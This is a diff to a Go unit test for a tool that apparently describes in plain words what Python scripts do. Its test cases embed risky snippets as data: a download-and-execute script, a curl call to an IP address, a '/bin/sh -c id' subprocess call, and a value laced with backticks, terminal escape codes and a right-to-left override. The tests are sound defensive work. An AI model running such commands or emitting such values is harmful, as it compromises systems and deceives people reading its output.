@@ -48,6 +48,8 @@ func TestReasonsNameValues(t *testing.T) {
 			"The script downloads code from https://x.example/a.py and executes it.", "line 2"},
 		{"an f-string", "import os, sys\nx = sys.argv[1]\nos.system(f'curl http://203.0.113.7/{x} -o /tmp/a')\n",
 			"The script runs the command `curl http://203.0.113.7/… -o /tmp/a`.", "line 3"},
+		{"an unknown program", "import subprocess, sys\nsubprocess.call([sys.argv[1], '--now'])\n", "The script starts `… --now`.", "line 2"},
+		{"a list", "import subprocess\nsubprocess.call(('/bin/sh', '-c', 'id'))\n", "The script starts `/bin/sh -c id`.", "line 2"},
 		{"a hostile value", "import os\nos.system('a`b\\x1b[2J\\u202e')\n",
 			"The script runs the command `a'b\\u001b[2J\\u202e`.", "line 2"},
 		{"no value", "import os\nos.system(x)\n", "The script runs shell commands.", "line 2"},
